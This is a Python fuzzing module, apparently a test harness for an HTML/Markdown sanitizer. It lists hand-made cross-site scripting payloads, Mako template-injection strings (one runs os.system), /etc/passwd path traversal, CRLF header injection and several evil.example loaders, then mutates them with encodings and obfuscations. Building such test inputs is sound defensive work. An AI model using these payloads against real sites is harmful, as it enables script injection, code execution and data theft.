"""What somebody types who wants a page to take it for markup or code: a list made by hand, and what a seed makes of it."""

from __future__ import annotations

import base64
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass

#: What sets the canary: a page in which it runs has `window.canary`.
ACT = "window.canary=alert(1)"
_ENCODED = base64.b64encode(b"<script>top.canary=alert(1)</script>").decode()

TAGS = (
    f"<script>{ACT}</script>",
    f"<script>{ACT}//",
    f"<script>{ACT}</script ",
    "<script src=//evil.example/x.js></script>",
    "<script/src=data:,alert(1)",
    f"</script><script>{ACT}</script>",
    f"</script ><img src=x onerror={ACT} ",
    f'"</script ><img src=x onerror={ACT} ',
    f"<img src=x onerror={ACT}>",
    f"<img src=x onerror={ACT} ",
    f"<img src=x onerror={ACT}//",
    f"<img/src/onerror={ACT} ",
    f"<img src=x:x\tonerror={ACT} ",
    f"<image src=x onerror={ACT} ",
    f"<body onload={ACT} ",
    f"<input autofocus onfocus={ACT} ",
    f"<select autofocus onfocus={ACT} ",
    f"<textarea autofocus onfocus={ACT} ",
    f"<video><source onerror={ACT} ",
    f"<audio src=x onerror={ACT} ",
    f"<details open ontoggle={ACT} ",
    f"<marquee onstart={ACT} ",
    f"<div onpointerover={ACT} style=position:fixed;inset:0 ",
    f"<a autofocus tabindex=1 onfocus={ACT} ",
    f"<x onclick={ACT} ",
    f"<keygen autofocus onfocus={ACT} ",
    f"<iframe srcdoc='<script>parent.{ACT}</script>'></iframe>",
    "<iframe src=javascript:alert(1) ",
    "<iframe src=//evil.example/ ",
    "<object data=javascript:alert(1) ",
    "<embed src=javascript:alert(1) ",
    "<form action=javascript:alert(1)><input type=submit>",
    "<form id=daform action=//evil.example ",
    "<button formaction=javascript:alert(1) form=daform ",
    "<base href=//evil.example/ ",
    "<meta http-equiv=refresh content='0;url=//evil.example' ",
    "<link rel=stylesheet href=//evil.example/x.css ",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example)} ",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<plaintext ",
    "<xmp><img src=x onerror=alert(1) ",
    "<title><img src=x onerror=alert(1)></title>",
    f"</title><script>{ACT}</script>",
    f"</textarea ><img src=x onerror={ACT} ",
    f"</style ><img src=x onerror={ACT} ",
    f"</option></select ><img src=x onerror={ACT} ",
    f"</pre></code></p></li></td></table ><img src=x onerror={ACT} ",
    "</body></html ><script>alert(1) ",
    "<frameset onload=alert(1) ",
    "<dialog open><form method=dialog><button popovertarget=x ",
    "<a href='javascript:alert(1)'>in</a>",
    "<a href=javascript:alert(1) ",
)
VECTORS = (
    f"<svg onload={ACT} ",
    f"<svg/onload={ACT}>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) />",
    "<svg><set attributeName=onmouseover to=alert(1) />",
    f"<svg><animate onbegin={ACT} attributeName=x dur=1s ",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x' ",
    "<svg><foreignObject><iframe src=javascript:alert(1) ",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<table><td background='javascript:alert(1)' ",
)
QUOTES = (
    f'" onmouseover="{ACT}',
    f"' onmouseover='{ACT}",
    f"` onmouseover=`{ACT}",
    f'" autofocus onfocus="{ACT}" x="',
    f"' autofocus onfocus='{ACT}' x='",
    f" onfocus={ACT} autofocus x=",
    f"x onfocus={ACT} autofocus",
    f'"><img src=x onerror={ACT} ',
    f"'><img src=x onerror={ACT} ",
    f'"/><svg onload={ACT} ',
    f"x><script>{ACT}//",
    '" style="position:fixed;inset:0',
    '" formaction="javascript:alert(1)',
    '" srcdoc="<script>alert(1)</script>',
    '" nonce="x',
    '"',
    "'",
    "`",
    ">",
    "<",
    "=",
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61vascript:alert(1)",
    "javascript%3Aalert(1)",
    "javascript://%0aalert(1)",
    "javascript:/*--></title></style></textarea></script><svg onload=alert(1)//>",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    f"data:text/html;base64,{_ENCODED}",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "file:///etc/passwd",
    "//evil.example",
    "x 1x, javascript:alert(1) 2x",
)
SCRIPTS = (
    f"';{ACT}//",
    f'";{ACT}//',
    f'\\";{ACT}//',
    f"\\';{ACT}//",
    "\\",
    "\\\\",
    "\\\\\\",
    '\\"',
    f"'-{ACT}-'",
    f'"+{ACT}+"',
    f"${{{ACT}}}",
    f"`+{ACT}+`",
    f"*/{ACT}/*",
    f"\n{ACT}\n",
    f"\u2028{ACT}\u2029",
    f"}});{ACT};({{",
    f"<!--\n{ACT}",
    f"--></script ><!--<script>{ACT}",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    '{"a": "</script "}',
    "]]>",
    "constructor.constructor('alert(1)')()",
    "__proto__",
)
STYLES = (
    "red;background:url(javascript:alert(1))",
    "red}*{background:url(//evil.example)}",
    "expression(alert(1))",
    "\\65xpression(alert(1))",
    "/**/}@import '//evil.example/x.css';",
    "</style ><script>alert(1)//",
    "url(data:text/css,*{display:none})",
    '"; position: fixed; inset: 0; x: "',
)
MARKDOWN = (
    "[in](javascript:alert(1))",
    "[in](java&#115;cript:alert(1))",
    "[in](<javascript:alert(1)>)",
    "[in](\njavascript:alert(1))",
    "[in](//evil.example 'x\" onmouseover=\"alert(1)')",
    "![in](x' onerror=alert(1) y=')",
    "![in](javascript:alert(1))",
    "[in]: javascript:alert(1)\n\n[in]",
    "[a\\]](//evil.example)",
    "<javascript:alert(1)>",
    "<https://evil.example/?onload=alert(1)>",
    "{: onclick='alert(1)' }",
    '{: onmouseover="alert(1)" style="position:fixed" }',
    "`</code ><img src=x onerror=alert(1) `",
    "```\n</code></pre ><img src=x onerror=alert(1) \n```",
    "# heading\n===\n- list\n1. list\n> quote\n    code",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1) | c |",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1) ",
    "**<b onclick=alert(1) **",
    '<div markdown="1" onclick=alert(1) ',
    "term\n: <img src=x onerror=alert(1) ",
    "a\\\n<img src=x onerror=alert(1) ",
)
MAKO = (
    "${ __import__('os').system('touch /tmp/canary') }",
    "${ 7*191 }",
    "<% raise SystemExit %>",
    "<%def name='x()'>x</%def>",
    "% if True:\nx\n% endif",
    "<%include file='/etc/passwd'/>",
    "{{ 7*191 }} {% raw %}",
    "## comment",
    "$" + "{one}",
)
ENTITIES = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#0060;img src=x onerror=alert(1)&#0062;",
    "&amp;#0060;img src=x onerror=alert(1)&amp;#0062;",
    "&#x3c;svg onload=alert(1)&#x3e;",
    "&quot; onmouseover=&quot;alert(1)",
    "&#0034; onmouseover=&#0034;alert(1)",
    "&Tab;javascript&colon;alert&lpar;1&rpar;",
    "&nbsp;&copy&not;it",
)
UNICODE = (
    "\U0010f03cscript\U0010f03ealert(1)\U0010f03c/script\U0010f03e",
    "\U0010f022 onmouseover=\U0010f022alert(1)",
    "＜script＞alert(1)＜/script＞",
    "\ufe64img src=x onerror=alert(1)\ufe65",
    "<\u0130mg src=x onerror=alert(1) ",
    "<ſcript>alert(1)</ſcript>",
    "<\u200bscript>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "\u202e>tpircs<",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\x1b$B<script>alert(1)\x1b(B",
)
TARGETS = (
    "[TARGET place]",
    "[TARGET x onclick=alert(1)]",
    "[TARGET place][BR][CENTER]",
    "[BEGIN_TWOCOL] x [BREAK] y [END_TWOCOL]",
    "[FILE 1] [FIELD one] [QR javascript:alert(1)]",
    "[YOUTUBE x] [VIMEO x]",
)
FILE_NAMES = (
    '../../etc/passwd"; x="',
    "a\r\nSet-Cookie: canary=1\r\n\r\n<script>alert(1)</script>",
    "x.html\x00.txt",
    "x.svg",
)
#: All that was made by hand.
HAND_MADE: tuple[str, ...] = (
    *(TAGS + VECTORS + QUOTES + ADDRESSES + SCRIPTS + STYLES),
    *(MARKDOWN + MAKO + ENTITIES + UNICODE + TARGETS + FILE_NAMES),
)


@dataclass(frozen=True)
class Payload:
    """What is typed into two fields; often the markup is only whole when both stand side by side."""

    first: str
    second: str

    @property
    def whole(self) -> str:
        return self.first + self.second


# --- what a seed makes of them -------------------------------------------------------------------------------------------

_INVISIBLE = (
    "\x00\x01\x08\x0b\x0c\x1f\x7f\x85\xa0\xad\u034f\u061c\u180e\u200b\u200c\u200d\u200e\u202e\u2028\u2029\u2060\u3000\ufeff\ufffd"
)
_BLANKS = "\t\n\x0b\x0c\r \xa0/+"
_WRAPPERS = (
    *("**{}**", "_{}_", "`{}`", "``{}``", "[{}](x)", "[x]({})", "![x]({})", "<{}>", "({})", '"{}"', "'{}'", "> {}", "- {}"),
    *("# {}", "    {}", "```\n{}\n```", "| {} |", "<!-- {} -->", "<!--> {}", "<![CDATA[{}]]>", "<?{}?>", "</p><p>{}", "[^1]: {}"),
    *(
        "<b title='{}'>",
        "<p>{}</p>",
        '{{: title="{}" }}',
        "${{ {} }}",
        "\\{}",
        "{}\\",
        "$${}$$",
        "[x]: {}\n\n[x]",
        "a < b {} c > d",
    ),
)
_SPECIALS = "<>\"'&()[]{}=:/\\`"


def _case(chance: random.Random, text: str) -> str:
    return "".join(char.swapcase() if chance.random() < 0.4 else char for char in text)


def _entities(chance: random.Random, text: str) -> str:
    forms = ("&#{};", "&#{}", "&#0{};", "&#000{};", "&#x{:x};", "&#X{:X}")
    return "".join(
        chance.choice(forms).format(ord(char)) if char in _SPECIALS and chance.random() < 0.4 else char for char in text
    )


def _invisible(chance: random.Random, text: str) -> str:
    place = chance.randrange(len(text) + 1)
    return text[:place] + chance.choice(_INVISIBLE) + text[place:]


def _blanks(chance: random.Random, text: str) -> str:
    return "".join(chance.choice(_BLANKS) if char == " " and chance.random() < 0.6 else char for char in text)


def _line_break(chance: random.Random, text: str) -> str:
    place = chance.randrange(len(text) + 1)
    return text[:place] + chance.choice(["\n", "\r\n", "\n\n", "\n    ", "\\\n", "\u2028"]) + text[place:]


def _wrapped(chance: random.Random, text: str) -> str:
    return chance.choice(_WRAPPERS).format(text)


def _nested(chance: random.Random, text: str) -> str:
    """Taking a tag away brings a tag together."""
    place = chance.randrange(len(text) + 1)
    return text[:place] + chance.choice(["<b>", "</b>", "<x y=z>", "<!-- -->", "<script>", "<<b>", ">"]) + text[place:]


def _backslashes(chance: random.Random, text: str) -> str:
    return "".join("\\" * chance.randint(1, 3) + char if char in _SPECIALS and chance.random() < 0.3 else char for char in text)


def _half(chance: random.Random, text: str) -> str:
    """Without its end or its beginning, or with a bracket less."""
    place = chance.randrange(len(text) + 1)
    return chance.choice([text[:place], text[place:], text.replace(">", ""), text.replace(">", "", 1), text.replace("<", "<<")])


def _comment(chance: random.Random, text: str) -> str:
    place = chance.randrange(len(text) + 1)
    return text[:place] + chance.choice(["<!--", "-->", "--!>", "<!-->", "/**/", "//", "<!", "<?", "]]>"]) + text[place:]


def _charset(chance: random.Random, text: str) -> str:
    """As another charset or a careless conversion would have it."""
    wide = "".join(chr(ord(char) + 0xFEE0) if char in _SPECIALS else char for char in text)
    veiled = "".join(chr(0x10F000 + ord(char)) if char in _SPECIALS else char for char in text)
    seven = text.replace("<", "+ADw-").replace(">", "+AD4-").replace('"', "+ACI-")
    escaped = "".join(f"\\u{ord(char):04x}" if char in _SPECIALS else char for char in text)
    percent = "".join(f"%{ord(char):02x}" if char in _SPECIALS else char for char in text)
    return chance.choice([wide, veiled, seven, escaped, percent])


def _joined(chance: random.Random, text: str) -> str:
    other = chance.choice(HAND_MADE)
    return chance.choice([text + other, other + text, text + "\n\n" + other])


CHANGES: tuple[Callable[[random.Random, str], str], ...] = (
    *(_case, _entities, _invisible, _blanks, _line_break, _wrapped, _nested, _backslashes, _half, _comment, _charset, _joined),
)
#: Longer ones only take longer.
LONGEST = 500


def split(chance: random.Random, text: str) -> Payload:
    """Typed into one of two fields, or into both."""
    place = chance.choice([0, len(text), chance.randrange(len(text) + 1), chance.randrange(min(len(text), 5) + 1)])
    return Payload(text[:place], text[place:])


def payloads(seed: int, count: int) -> Iterator[Payload]:
    """`count` different ones, for any seed the same: first those made by hand, then what changes make of them."""
    chance = random.Random(seed)
    known = dict.fromkeys(Payload(text, "") for text in HAND_MADE[:count])
    yield from known
    while len(known) < count:
        made = split(chance, _changed(chance)[:LONGEST])
        if made not in known:
            known[made] = None
            yield made


def _changed(chance: random.Random) -> str:
    text = chance.choice(HAND_MADE)
    for change in chance.choices(CHANGES, k=chance.randint(1, 4)):
        text = change(chance, text)
    return text
